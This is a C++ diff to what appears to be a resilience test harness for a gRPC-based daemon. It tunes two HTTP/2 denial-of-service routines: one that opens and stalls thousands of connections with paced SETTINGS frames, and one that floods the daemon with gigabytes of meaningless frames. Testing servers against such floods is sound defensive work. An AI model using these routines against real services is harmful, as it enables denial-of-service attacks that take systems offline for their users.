@@ -423,11 +423,20 @@ void ResetAndClose(const Target& target, const std::string& method) {
 }
 
 // Opens connections whose answers it does not read, says that nothing more comes, and keeps them.
+// gRPC keeps up to 10,000 answers of each, and cannot finish its write.
 void StallAndClose(const Target& target) {
   RaiseDescriptorLimit();
   OnThreads(4, [&](int, const Begun& begun) {
+    // How many connections later one goes on: earlier, it would have sent too much at once.
+    constexpr std::size_t kLater = 40;
     for (std::deque<RawHttp2> closed;;) {
-      closed.emplace_back(target.socket, 65535).StallAndClose();
+      closed.emplace_back(target.socket, 65535).SendSettings(4500);
+      if (closed.size() > kLater) {
+        RawHttp2& earlier = closed[closed.size() - 1 - kLater];
+        earlier.SendSettings(4500);
+        earlier.SendNoMore();
+      }
+      std::this_thread::sleep_for(std::chrono::milliseconds(1));  // the pace of the attack
       if (closed.size() > 750) begun();
       if (closed.size() > 1000) closed.pop_front();
     }
@@ -435,7 +444,7 @@ void StallAndClose(const Target& target) {
 }
 
 // Sends 3 GiB of long frames that mean nothing without a pause, lets the daemon read all of it, and
-// goes on. The daemon ends the connection after 256 KiB. Otherwise gRPC 1.51 could make room for as
+// goes on. The daemon ends the connection after 48 KiB. Otherwise gRPC 1.51 could make room for as
 // much as it has read since its last pause: it would take as much memory, and abort from 2 GiB on.
 void Bulk(const Target& target) {
   constexpr int kMiB = 3 << 10;
